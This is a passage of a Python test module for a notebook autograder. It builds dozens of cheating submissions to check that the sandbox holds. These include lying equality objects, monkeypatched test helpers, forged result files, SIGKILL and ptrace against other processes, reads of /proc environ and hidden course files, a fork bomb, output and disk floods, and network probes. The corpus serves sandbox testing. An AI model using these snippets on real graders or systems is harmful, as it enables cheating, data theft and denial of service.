"""An adversarial corpus: one submission per attack, graded in one batch by the real CLI.

Every entry of :data:`ATTACKS` is a submission built to cheat: to get points it has
not earned, to read or leak the hidden tests, to damage other students' results or
the course, to reach the network, or to stop the batch (see docs/THREAT_MODEL.md).
The whole corpus, plus an honest and a blank control student, is graded once by
``python -m autograder grade`` on a private copy of the toy course; then every
promise is checked: no attack scores more than the blank, the batch completes,
the gradebook holds exactly what ``grading.json`` says, ``source/`` and
``release/`` are untouched, nothing reaches the network, no process outlives the
batch, and no feedback page carries hidden text, hidden inputs or a planted marker.

Attack code builds its marker at run time (``'ZQX' + 'LEAK'``), so the marker can
appear in a page only if something the code did at run time got there.
"""

from __future__ import annotations

import copy
import hashlib
import json
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from string import Template

import nbformat
import pytest
from toycourse import ASSIGNMENT, NOTEBOOK, SOLUTION, copy_of

from autograder.course import Course
from autograder.sandbox import tmpfs_size_supported

pytestmark = [pytest.mark.slow, pytest.mark.sandbox]

MARK = "ZQXLEAK"  # what attack code plants; it builds it as 'ZQX' + 'LEAK'
ORPHAN = "ZQXORPHAN"  # in the argv of a process an attack tries to leave behind (with the run's token)
HIDDEN_LINE = "check_equal(add(-5, -5), -10)"
HONEST, BLANK = "control-honest", "control-blank"
MAX_FILE_MB = 256  # the default file size limit (the CLI has no option for it)
LIMITS = ["--workers", "2", "--cell-timeout", "5", "--timeout", "60", "--memory-mb", "1024"]
NO_BWRAP = (
    "needs bubblewrap: without it the student's side is an ordinary process that can read the disk, "
    "reach the network and signal the grader (docs/THREAT_MODEL.md, 'Without bubblewrap')"
)


# Building submissions ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """What an attack may know about the grading machine (the threat model assumes it knows a lot)."""

    student: str
    token: str  # unique to this run of the corpus
    release: dict  # the released toy notebook, as JSON
    course_root: str
    loopback_port: int
    host_address: str  # a non-loopback address of this machine ("" if it has none)
    host_port: int


Files = dict[str, bytes | None]  # file name in <student>/toy/ -> content; None makes a folder


@dataclass(frozen=True)
class Attack:
    what: str
    make: Callable[[Target], Files]
    isolation: bool = False  # meaningful (and safe) only inside bubblewrap
    status: str | None = None  # the grading.json status, when the attack decides it
    reason: str = ""  # a text expected among the reasons


def _fill(code: str, target: Target) -> str:
    return Template(textwrap.dedent(code).strip()).safe_substitute(
        student=target.student,
        token=target.token,
        course=target.course_root,
        lport=target.loopback_port,
        host=target.host_address,
        hport=target.host_port,
    )


def _cell(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def _dump(nb: dict) -> Files:
    return {NOTEBOOK: json.dumps(nb, indent=1).encode()}


def solution(code: str) -> Callable[[Target], Files]:
    """The release with the body of the ``add`` solution cell replaced by ``code``."""

    def make(target: Target) -> Files:
        nb = copy.deepcopy(target.release)
        _cell(nb, "add")["source"] = _fill(code, target)
        return _dump(nb)

    return make


def edited(change: Callable[[dict], None], code: str = "def add(a, b):\n    return 0") -> Callable:
    """The release, ``add`` answered wrongly, then ``change(nb)`` applied to its JSON."""

    def make(target: Target) -> Files:
        nb = json.loads(solution(code)(target)[NOTEBOOK])
        change(nb)
        return _dump(nb)

    return make


def raw(data: bytes | Callable[[Target], bytes]) -> Callable[[Target], Files]:
    return lambda target: {NOTEBOOK: data(target) if callable(data) else data}


def _code_cell(source: str, **metadata) -> dict:
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": metadata,
        "outputs": [],
        "source": source,
    }


# Attack code ---------------------------------------------------------------------------------------

WRONG = "def add(a, b):\n    return 0"

LYING_EQ = """
class Yes:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

def add(a, b):
    return Yes()
"""


def lying_subclass(base: str, value: str, setup: str = "") -> str:
    return f"""
{setup}
class Liar({base}):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

def add(a, b):
    return {value}
"""


FAKE_HELPERS = """
import sys
import types
import course.checks

nothing = lambda *args, **kwargs: None
check_equal = check_close = check_type = nothing
for name in ("check_equal", "check_close", "check_type", "check_one_of"):
    setattr(course.checks, name, nothing)
fake = types.ModuleType("course.checks")
fake.check_equal = fake.check_close = nothing
sys.modules["course.checks"] = fake

def add(a, b):
    return 0
"""

SWAP_CODE = """
import course.checks

course.checks.check_equal.__code__ = (lambda *args, **kwargs: None).__code__
course.checks.check_close.__code__ = (lambda *args, **kwargs: None).__code__

def add(a, b):
    return 0
"""

PATCH_BUILTINS = """
import builtins

real_type = type
builtins.isinstance = lambda *args: True
builtins.issubclass = lambda *args: True
builtins.type = lambda *args: int if len(args) == 1 else real_type(*args)
builtins.AssertionError = real_type("AssertionError", (Exception,), {})
builtins.print = lambda *args, **kwargs: None

def add(a, b):
    return 0
"""

PATCH_NUMPY = """
import numpy as np
import numpy.testing

np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
np.testing.assert_equal = np.testing.assert_almost_equal = lambda *args, **kwargs: None
np.array_equal = np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)

def add(a, b):
    return 0
"""

IPYTHON_TRANSFORMERS = """
import ast

ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])

class Gut(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])

ip.ast_transformers.append(Gut())

def add(a, b):
    return 0
"""

IPYTHON_HOOKS = """
import sys

M = 'ZQX' + 'LEAK'
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: print(M))
ip.events.register("pre_run_cell", lambda info: print(M, "pre"))
ip.events.register("post_run_cell", lambda result: print(M, "post"))
ip.events.register("post_execute", lambda: print(M, "post_execute"))
sys.displayhook = lambda value: print(M, value)
sys.excepthook = lambda *args: print(M, args)
ip.display_pub.publish = lambda *args, **kwargs: None
ip.showtraceback = lambda *args, **kwargs: None

def add(a, b):
    raise ValueError(M)
"""

TRACE = """
import sys
import threading

M = 'ZQX' + 'LEAK'

def tracer(frame, event, arg):
    if event == "exception":
        frame.f_locals.clear()
    return tracer

sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda frame, event, arg: None)
threading.setprofile(lambda frame, event, arg: None)
sys.setrecursionlimit(50)

def add(a, b):
    return 0
"""

FORGE_FILES = """
import json
import os

M = 'ZQX' + 'LEAK'
fake = {"student_id": "$student", "assignment": "toy", "status": "graded", "score": 3.0,
        "max_score": 3.0, "reasons": [M], "tests": []}
targets = [
    "grading.json", "toy.ipynb", "toy.ipynb.executed", "gradebook.db", "../grading.json",
    "/tmp/grading.json", "$course/gradebook.db", "$course/source/toy/toy.ipynb",
    "$course/release/toy/toy.ipynb", "$course/autograded/$student/toy/grading.json",
    "$course/autograded/control-honest/toy/grading.json", "$course/feedback/$student/toy/feedback.html",
    "$course/submitted/control-honest/toy/toy.ipynb",
]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as f:
            f.write(json.dumps(fake))
    except OSError:
        pass

def add(a, b):
    return 0
"""

FORGE_FRAMES = """
import json
import os
import struct
import sys

def frame(message):
    head = json.dumps({**message, "nbuffers": 0}).encode()
    return struct.pack(">Q", len(head)) + head

passed = {"passed": True, "message": "", "ename": "", "hidden": False}
forged = [
    {"outputs": []},
    {"event": "cell", "notebook": "toy.ipynb", "index": 3, "outputs": [], "test": passed},
    {"event": "cell", "notebook": "toy.ipynb", "index": 4, "outputs": [], "test": passed},
    {"event": "done"},
    {"kind": "value", "value": {"int": "3"}},
    {"value": {"list": [{"int": "3"}, {"list": [{"list": []}, {"dict": []}]}]}},
]
blob = b"".join(frame(m) for m in forged)
print(json.dumps(forged[1]))
sys.__stdout__.write(json.dumps(forged[2]) + "\\n")
for fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
    try:
        os.write(fd, blob)
    except OSError:
        pass

def add(a, b):
    return 0
"""

# The agent is the student's own process: its answer to the cell that patches it can be anything.
HIJACK = """
import gc

agent = next(o for o in gc.get_objects() if type(o).__name__ == "Agent")
module = type(agent).serve.__globals__
real_send = module["send"]

def send(stream, message, buffers=()):
    module["send"] = real_send  # once: the answer to this very cell
    forge(stream)

module["send"] = send
"""


def hijack(forge: str) -> str:
    """Code that makes its agent answer the cell it runs in with ``forge(stream)``, then answers ``add``."""
    return forge + HIJACK + "\n" + WRONG


FORGE_OUTPUTS = hijack("""
def forge(stream):
    bad = [[], None, 7, {"output_type": "display_data", "data": [1, 2]},
           {"output_type": "error", "ename": None, "evalue": 3, "traceback": "x"},
           {"output_type": "stream", "name": ["stdout"], "text": {"a": 1}},
           {"output_type": "stream", "name": "stdout", "text": 5}]
    real_send(stream, {"outputs": bad})
""")

FORGE_DEEP_JSON = hijack("""
import struct

def forge(stream):
    head = b'{"outputs": ' + b"[" * 200_000 + b"]" * 200_000 + b', "nbuffers": 0}'
    stream.write(struct.pack(">Q", len(head)) + head)
    stream.flush()
""")

FORGE_HUGE_JSON = hijack("""
import os
import struct

def forge(stream):
    fd, chunk = stream.fileno(), b"[]," * (1 << 20)
    body = [b'{"outputs": [', *[chunk] * ((250 << 20) // len(chunk)), b'[]], "nbuffers": 0}']
    os.write(fd, struct.pack(">Q", sum(map(len, body))))
    for part in body:
        view = memoryview(part)
        while view:
            view = view[os.write(fd, view) :]
""")

KILL_EVERYTHING = """
import os
import signal

me = os.getpid()
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        if pid != me:
            try:
                os.kill(pid, sig)
            except OSError:
                pass
for pid in range(2, 40000):
    if pid != me:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass

def add(a, b):
    return 0
"""

KILL_PARENT = """
import os
import signal

for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, sig)
        except OSError:
            pass

def add(a, b):
    return 0
"""

KILL_ALL = """
import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass

def add(a, b):
    return 0
"""

KILL_OWN_GROUP = """
import os
import signal

def add(a, b):
    os.killpg(0, signal.SIGKILL)
"""

PTRACE = """
import ctypes
import os

M = 'ZQX' + 'LEAK'
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
found = []
for pid in {1, os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
    for request in (PTRACE_ATTACH, PTRACE_SEIZE):
        found.append((pid, request, libc.ptrace(request, pid, None, None), ctypes.get_errno()))
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as f:
        f.seek(0x400000)
        found.append(f.read(64))
except OSError as error:
    found.append(repr(error))
print(M, found)

def add(a, b):
    raise RuntimeError(M + repr(found))
"""

READ_PROC = """
import glob
import os

M = 'ZQX' + 'LEAK'
found = {}
paths = ["/proc/1/cmdline", "/proc/1/environ", "/proc/self/mountinfo", "/proc/self/environ",
         "/proc/self/cgroup", *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/proc/[0-9]*/environ"),
         *glob.glob("/proc/[0-9]*/cwd/*")]
for path in paths:
    try:
        with open(path, "rb") as f:
            found[path] = f.read(400)
    except OSError as error:
        found[path] = repr(error)
found["environ"] = dict(os.environ)
print(M, found)

def add(a, b):
    raise RuntimeError(M + repr(found)[:1500])
"""

WALK_DISK = """
import os
import time

M = 'ZQX' + 'LEAK'
hits, texts = [], {}
deadline = time.monotonic() + 3
for top in ("$course", "/tmp", "/dev/shm", "/root", "/home", "/work", "/srv", "/var", "/opt", "/"):
    for folder, subfolders, files in os.walk(top):
        if folder == "/":
            subfolders[:] = [d for d in subfolders if d not in ("proc", "sys", "dev", "usr")]
        hits += [os.path.join(folder, f) for f in files
                 if f.endswith((".ipynb", ".sock")) or f in ("gradebook.db", "grading.json", "nbgrader_config.py")]
        if time.monotonic() > deadline:
            break
for path in hits[:200]:
    try:
        with open(path, errors="replace") as f:
            text = f.read()
        if "HIDDEN" in text or "add(" in text:
            texts[path] = text[:300]
    except OSError:
        pass
print(M, len(hits), texts)

def add(a, b):
    raise RuntimeError(M + repr(texts)[:1500])
"""

READ_COURSE = """
M = 'ZQX' + 'LEAK'
found = {}
for path in ("$course/source/toy/toy.ipynb", "$course/release/toy/toy.ipynb", "$course/gradebook.db",
             "$course/nbgrader_config.py", "$course/autograded/control-honest/toy/grading.json"):
    try:
        with open(path, "rb") as f:
            found[path] = f.read()[:2000]
    except OSError as error:
        found[path] = repr(error)
print(M, found)

def add(a, b):
    raise RuntimeError(M + repr(found))
"""

READ_HISTORY = """
import gc

M = 'ZQX' + 'LEAK'
ip = get_ipython()
seen = repr([In, Out, _ih, sorted(globals()), sorted(ip.user_ns), ip.history_manager])
strings = [o for o in gc.get_objects() if type(o) is str and ("HIDDEN" in o or "check_equal(" in o)]
print(M, seen[:1000], strings[:20])

def add(a, b):
    raise RuntimeError(M + seen[:500] + repr(strings)[:1000])
"""

LEAK_MESSAGE = """
M = 'ZQX' + 'LEAK'
seen = []

def add(a, b):
    seen.append((a, b))
    if len(seen) < 3:  # add(-1, 1) must pass for the hidden line to run
        return 0
    raise ValueError(M + repr(seen))
"""

LEAK_REPLAY = """
M = 'ZQX' + 'LEAK'
seen = []

def add(a, b):
    seen.append((a, b))
    if len(seen) < 3:
        return 0
    return [M, seen, {str(seen): seen}]
"""

LEAK_PRINT = """
import os
import sys

M = 'ZQX' + 'LEAK'
seen = []

def add(a, b):
    seen.append((a, b))
    print(M, seen)
    print(M, seen, file=sys.stderr)
    os.write(1, f"{M} {seen}".encode())
    os.write(2, f"{M} {seen}".encode())
    return 0
"""

LEAK_TYPE_NAME = """
M = 'ZQX' + 'LEAK'
seen = []

def add(a, b):
    seen.append((a, b))
    if len(seen) < 3:
        return 0
    return type(M + str(seen), (), {})()
"""

# A function chooses which exception to raise from the inputs it gets. Feedback names the type by
# design, so this carries a few bits per submission; what is checked is that no value gets through.
LEAK_EXCEPTION_TYPE = """
KINDS = [ValueError, KeyError, IndexError, TypeError, LookupError, ZeroDivisionError, OverflowError]
seen = []

def add(a, b):
    seen.append((a, b))
    if len(seen) < 3:
        return 0
    raise KINDS[abs(a) % len(KINDS)]("x")
"""

# The agent is the student's own process: its replies can be anything, including malformed data
# whose error message carries what the student recorded.
LEAK_PROTOCOL_CALL = """
import gc

M = 'ZQX' + 'LEAK'
agent = next(o for o in gc.get_objects() if type(o).__name__ == "Agent")
globals_ = type(agent).op_call.__globals__
real = globals_["encode"]
calls = []

def encode(value):
    calls.append(value)
    header, buffers = real(value)
    if len(calls) >= 3:  # the hidden call
        return {M + repr(value)[:200]: 1}, buffers
    return header, buffers

globals_["encode"] = encode

def add(a, b):
    return 0
"""

LEAK_PROTOCOL_GET = """
import gc

M = 'ZQX' + 'LEAK'
agent = next(o for o in gc.get_objects() if type(o).__name__ == "Agent")
agent.op_get = lambda message, buffers: ({"kind": "value", "value": {"ndarray": M, "dtype": M}}, [])

def add(a, b):
    return 0
"""

COLLUDE_WRITE = """
import os

M = 'ZQX' + 'LEAK'
for path in ("collude.txt", "/tmp/collude.txt", "/dev/shm/collude.txt", os.path.expanduser("~/collude.txt"),
             "/var/tmp/collude.txt"):
    try:
        with open(path, "w") as f:
            f.write(M + " planted by the writer")
    except OSError:
        pass

def add(a, b):
    return 0
"""

COLLUDE_READ = """
import glob
import os
import time

found = []
deadline = time.monotonic() + 3
while not found and time.monotonic() < deadline:
    for pattern in ("collude.txt", "/tmp/**/collude.txt", "/dev/shm/collude.txt", "/var/tmp/collude.txt",
                    "/tmp/autograder-*/submission/*"):
        for path in glob.glob(pattern, recursive=True):
            try:
                found.append(open(path).read())
            except OSError:
                pass
    time.sleep(0.2)
print(found)

def add(a, b):
    raise RuntimeError(repr(found))
"""

SEGFAULT = """
import ctypes

def add(a, b):
    return 0

ctypes.string_at(0)
"""

SLEEP_IN_CALL = """
import time

def add(a, b):
    time.sleep(10**6)
"""

IGNORE_ALARM_LOOP = """
import signal

def add(a, b):
    return 0

signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
"""

IGNORE_ALARM_IN_CALL = """
import signal

def add(a, b):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass
"""

CATCH_TIMEOUT = """
def add(a, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""

ALLOCATE = """
import numpy as np

def add(a, b):
    return 0

hog = []
for make in (lambda: bytearray(10 * 1024**3), lambda: np.ones(2 * 1024**3), lambda: "x" * (8 * 1024**3)):
    try:
        hog.append(make())
    except MemoryError:
        pass
"""

FORK_BOMB = """
import os
import time

children = 0
try:
    for _ in range(100_000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError:
    pass
print(children)

def add(a, b):
    return 0
"""

ORPHAN_CODE = """
import os
import subprocess
import sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "ZQX" + "ORPHAN$token"])
    os._exit(0)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "ZQX" + "ORPHAN$token"],
                 start_new_session=True)

def add(a, b):
    return 0
"""

FILL = """
import json
import os

block, wrote = b"x" * (32 << 20), {}
try:
    try:
        with open("huge.bin", "wb") as f:
            for _ in range(12):  # 384 MB, over the 256 MB file size limit
                f.write(block)
    except OSError:
        os.remove("huge.bin")
    for folder in $folders:  # 512 MB of files under the size limit in each, or the cell's time limit
        wrote[folder] = 0
        try:
            for i in range(16):
                with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as f:
                    f.write(block)
                wrote[folder] += 32
        except OSError:
            pass
finally:
    print("WROTE", json.dumps(wrote))

def add(a, b):
    return 0
"""

OUTPUT_FLOOD = """
import os
import sys

def add(a, b):
    print("y" * 50_000_000)
    return 0

print("x" * 50_000_000)
for i in range(200_000):
    print(i)
sys.stderr.write("z" * 10_000_000)
os.write(1, b"w" * 20_000_000)
os.write(2, b"v" * 20_000_000)
"""

HUGE_RETURN = """
def add(a, b):
    return b"x" * 200_000_000
"""

NETWORK = """
import socket

M = 'ZQX' + 'LEAK'
tried = []
for host, port in [("127.0.0.1", $lport), ("localhost", $lport), ("$host", $hport), ("10.0.2.2", 80),
                   ("1.1.1.1", 53), ("192.0.2.1", 80)]:
    if not host:
        continue
    try:
        socket.create_connection((host, port), timeout=1).close()
        tried.append((host, port, "connected"))
    except OSError as error:
        tried.append((host, port, type(error).__name__))
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(M.encode(), ("$host" or "127.0.0.1", $hport))
except OSError as error:
    tried.append(("udp", type(error).__name__))
try:
    tried.append(socket.getaddrinfo("example.com", 80))
except OSError as error:
    tried.append(("dns", type(error).__name__))
print(tried)

def add(a, b):
    return 0
"""

UNIX_SOCKETS = """
import glob
import socket

tried = []
for path in glob.glob("/tmp/**/*.sock", recursive=True) + ["\\0autograder", "/run/systemd/private"]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect(path)
        s.sendall(b"\\0" * 64)
        tried.append((path, "connected"))
    except OSError as error:
        tried.append((path, type(error).__name__))
print(tried)

def add(a, b):
    return 0
"""


# Cell and metadata edits ---------------------------------------------------------------------------


def _tests(nb: dict) -> list[dict]:
    return [_cell(nb, "add_visible"), _cell(nb, "add_hidden")]


def delete_tests(nb: dict) -> None:
    for cell in _tests(nb):
        nb["cells"].remove(cell)


def blank_out_tests(nb: dict) -> None:
    for cell in _tests(nb):
        cell["source"] = "pass"


def duplicate_tests(nb: dict) -> None:
    at = nb["cells"].index(_cell(nb, "add"))
    for cell in reversed(_tests(nb)):
        twin = copy.deepcopy(cell)
        twin["source"], twin["id"] = "pass", twin["id"] + "x"
        nb["cells"].insert(at + 1, twin)


def move_tests_up(nb: dict) -> None:
    tests = _tests(nb)
    for cell in tests:
        nb["cells"].remove(cell)
    nb["cells"][1:1] = tests


def solution_as_graded(nb: dict) -> None:
    meta = _cell(nb, "add")["metadata"]["nbgrader"]
    meta.update(grade=True, locked=True, solution=False, points=100, grade_id="bonus")


def solution_takes_test_id(nb: dict) -> None:
    _cell(nb, "add")["metadata"]["nbgrader"]["grade_id"] = "add_visible"


def solution_tagged_setup(nb: dict) -> None:
    cell = _cell(nb, "add")
    cell["metadata"]["tags"] = ["test-setup"]
    cell["metadata"]["nbgrader"].update(locked=True, solution=False)
    cell["source"] = "check_equal = lambda *args, **kwargs: None\n" + WRONG


def retype_tests(kind: str) -> Callable[[dict], None]:
    def change(nb: dict) -> None:
        for cell in _tests(nb):
            cell["cell_type"], cell["source"] = kind, "pass"
            cell["metadata"]["nbgrader"]["cell_type"] = kind
            del cell["outputs"], cell["execution_count"]

    return change


def points_1000(nb: dict) -> None:
    for cell in _tests(nb):
        cell["metadata"]["nbgrader"]["points"] = 1000
    _cell(nb, "add")["metadata"]["nbgrader"].update(grade=True, points=1000)


def unmark_tests(nb: dict) -> None:
    for cell in _tests(nb):
        del cell["metadata"]["nbgrader"]
        cell["metadata"].pop("editable", None)
        cell["source"] = "pass"


def prefilled_outputs(nb: dict) -> None:
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["execution_count"] = 1
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "ok\n"}]
    nb["metadata"]["autograder"] = {"stopped": None, "stopped_at_cell": None, "timed_out_cells": []}
    nb["metadata"]["nbgrader"] = {"score": 3, "max_score": 3}


def other_kernel(nb: dict) -> None:
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb["metadata"]["language_info"] = {"name": "bash"}
    _cell(nb, "add")["source"] = "echo hello"


def metadata_not_a_dict(nb: dict) -> None:
    _cell(nb, "add")["metadata"]["nbgrader"] = "grade"


def grade_id_not_a_string(nb: dict) -> None:
    _cell(nb, "add")["metadata"]["nbgrader"]["grade_id"] = {"$ne": ""}
    nb["cells"][1]["metadata"]["nbgrader"] = {"grade_id": ["add_visible"]}


def same_cell_ids(nb: dict) -> None:
    for cell in nb["cells"]:
        cell["id"] = "same"


def huge_cell(kind: str, megabytes: int) -> Callable[[dict], None]:
    def change(nb: dict) -> None:
        text = "# " + "x" * (megabytes << 20)
        cell = _code_cell(text) if kind == "code" else {"cell_type": kind, "metadata": {}, "source": text}
        nb["cells"].insert(1, cell)

    return change


def many_cells(nb: dict) -> None:
    nb["cells"][2:2] = [_code_cell(f"x{i} = {i}") for i in range(3000)]


def version(major: int) -> Callable[[Target], bytes]:
    def make(target: Target) -> bytes:
        nb = copy.deepcopy(target.release)
        nb["nbformat"] = major
        return json.dumps(nb).encode()

    return make


NBFORMAT_3 = json.dumps(
    {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {},
        "worksheets": [
            {"cells": [{"cell_type": "code", "input": WRONG, "outputs": [], "language": "python"}]}
        ],
    }
).encode()


def extra_files(target: Target) -> Files:
    files: Files = {f"copy-{i}.ipynb": b"{}" for i in range(20)}
    files["gradebook.db"] = b"not a database"
    files["grading.json"] = json.dumps({"score": 3}).encode()
    files["data"] = None
    return {**files, **solution(WRONG)(target)}


# The corpus --------------------------------------------------------------------------------------

FAILED = "failed"  # the submission could not be fully run or read

ATTACKS: dict[str, Attack] = {
    # 1. Lying objects and subclasses
    "lying-eq": Attack("an object whose __eq__ is always True", solution(LYING_EQ)),
    "lying-int": Attack("an int subclass equal to everything", solution(lying_subclass("int", "Liar(0)"))),
    "lying-float": Attack(
        "a float subclass equal to everything", solution(lying_subclass("float", "Liar(0.0)"))
    ),
    "lying-str": Attack("a str subclass equal to everything", solution(lying_subclass("str", "Liar('3')"))),
    "lying-ndarray": Attack(
        "an ndarray subclass equal to everything",
        solution(lying_subclass("np.ndarray", "np.zeros(1).view(Liar)", "import numpy as np")),
    ),
    "lying-dict": Attack("a dict subclass equal to everything", solution(lying_subclass("dict", "Liar()"))),
    "lying-object-array": Attack(
        "an object-dtype array of liars",
        solution(LYING_EQ.replace("return Yes()", "import numpy as np\n    return np.array([Yes()])")),
    ),
    # 2. Rebinding and monkeypatching what the tests use
    "patch-checks": Attack(
        "rebinds check_equal, patches course.checks and sys.modules", solution(FAKE_HELPERS)
    ),
    "patch-checks-code": Attack("swaps __code__ of course.checks.check_equal", solution(SWAP_CODE)),
    "patch-builtins": Attack("patches isinstance, type, AssertionError, print", solution(PATCH_BUILTINS)),
    "patch-numpy": Attack("patches np.testing and np.array_equal", solution(PATCH_NUMPY)),
    "ipython-transformers": Attack(
        "input and AST transformers that gut every later cell", solution(IPYTHON_TRANSFORMERS)
    ),
    "ipython-hooks": Attack(
        "set_custom_exc, event callbacks, display and except hooks", solution(IPYTHON_HOOKS)
    ),
    "trace-profile": Attack("sys.settrace / setprofile on itself", solution(TRACE)),
    # 3. Forging, truncating or racing result files and protocol frames
    "forge-result-files": Attack(
        "writes grading.json, *.executed, the gradebook and course files it can guess",
        solution(FORGE_FILES),
        isolation=True,
    ),
    "forge-frames": Attack(
        "writes protocol frames and JSON events to fd 1, 2 and every open fd", solution(FORGE_FRAMES)
    ),
    "forge-outputs": Attack("its agent reports outputs of the wrong types", solution(FORGE_OUTPUTS)),
    "forge-deep-json": Attack(
        "its agent answers with JSON nested 200,000 deep", solution(FORGE_DEEP_JSON), status=FAILED
    ),
    "forge-huge-json": Attack(
        "its agent answers with a 250 MB frame of empty lists (memory blow-up on the trusted side)",
        solution(FORGE_HUGE_JSON),
        status=FAILED,
    ),
    # 4. Signalling, stopping or tracing other processes
    "kill-every-pid": Attack(
        "SIGSTOP and SIGKILL to every pid in /proc and in 2..40000",
        solution(KILL_EVERYTHING),
        isolation=True,
    ),
    "kill-parent": Attack(
        "SIGSTOP, SIGTERM, SIGKILL to its parent and pid 1", solution(KILL_PARENT), isolation=True
    ),
    "kill-all": Attack("os.kill(-1, SIGKILL) and killpg of its parent", solution(KILL_ALL), isolation=True),
    "kill-own-group": Attack(
        "killpg(0) from inside a test's call", solution(KILL_OWN_GROUP), status=FAILED, reason="kernel died"
    ),
    "ptrace": Attack(
        "ptrace(ATTACH/SEIZE) every pid, read the parent's /proc/mem", solution(PTRACE), isolation=True
    ),
    # 5. Reading hidden tests or source notebooks
    "read-proc": Attack(
        "reads /proc/*/cmdline, environ, mountinfo, cwd", solution(READ_PROC), isolation=True
    ),
    "walk-disk": Attack(
        "walks / and /tmp for notebooks, gradebooks, sockets", solution(WALK_DISK), isolation=True
    ),
    "read-course": Attack(
        "opens the course's source, release and gradebook by path", solution(READ_COURSE), isolation=True
    ),
    "read-history": Attack(
        "reads In, Out, _ih, globals() and every string in memory", solution(READ_HISTORY)
    ),
    # 6. Leaking through errors, values and output
    "leak-in-message": Attack(
        "records the hidden inputs, raises them in an exception message", solution(LEAK_MESSAGE)
    ),
    "leak-in-value": Attack("returns the hidden inputs for a check to echo", solution(LEAK_REPLAY)),
    "leak-in-output": Attack("prints the inputs to stdout, stderr, fd 1 and fd 2", solution(LEAK_PRINT)),
    "leak-in-type-name": Attack(
        "returns an object whose class is named after the hidden inputs", solution(LEAK_TYPE_NAME)
    ),
    "leak-in-exception-type": Attack(
        "picks the exception type from the hidden inputs (a covert channel)", solution(LEAK_EXCEPTION_TYPE)
    ),
    "leak-in-protocol-call": Attack(
        "its agent answers the hidden call with malformed data named after the inputs",
        solution(LEAK_PROTOCOL_CALL),
    ),
    "leak-in-protocol-get": Attack(
        "its agent answers a lookup with malformed data carrying a marker", solution(LEAK_PROTOCOL_GET)
    ),
    "collude-a-writer": Attack(
        "plants a file in /tmp, /dev/shm, ~ and its folder", solution(COLLUDE_WRITE), isolation=True
    ),
    "collude-b-reader": Attack(
        "looks for the writer's file and other submissions' folders", solution(COLLUDE_READ), isolation=True
    ),
    # 7. Exits, crashes, loops, sleeps, memory, forks, disk and output floods
    "exit-os": Attack(
        "os._exit(0) in the solution cell",
        solution("import os\nos._exit(0)"),
        status=FAILED,
        reason="kernel died",
    ),
    "exit-sys": Attack(
        "sys.exit() in the cell, SystemExit from the function",
        solution("import sys\ndef add(a, b):\n    raise SystemExit(0)\nsys.exit()"),
    ),
    "exit-in-call": Attack(
        "os._exit from inside a test's call",
        solution("import os\ndef add(a, b):\n    os._exit(3)"),
        status=FAILED,
        reason="kernel died",
    ),
    "segfault": Attack("ctypes.string_at(0)", solution(SEGFAULT), status=FAILED, reason="kernel died"),
    "infinite-loop": Attack(
        "while True: pass",
        solution(WRONG + "\nwhile True:\n    pass"),
        status="graded",
        reason="was interrupted",
    ),
    "sleep-in-call": Attack("the function sleeps forever when a test calls it", solution(SLEEP_IN_CALL)),
    "ignore-alarm": Attack(
        "ignores SIGALRM, SIGINT, SIGTERM, then loops",
        solution(IGNORE_ALARM_LOOP),
        status=FAILED,
        reason="ignored the interrupt",
    ),
    "ignore-alarm-in-call": Attack(
        "ignores SIGALRM inside a test's call, then loops",
        solution(IGNORE_ALARM_IN_CALL),
        status=FAILED,
        reason="ignored the interrupt",
    ),
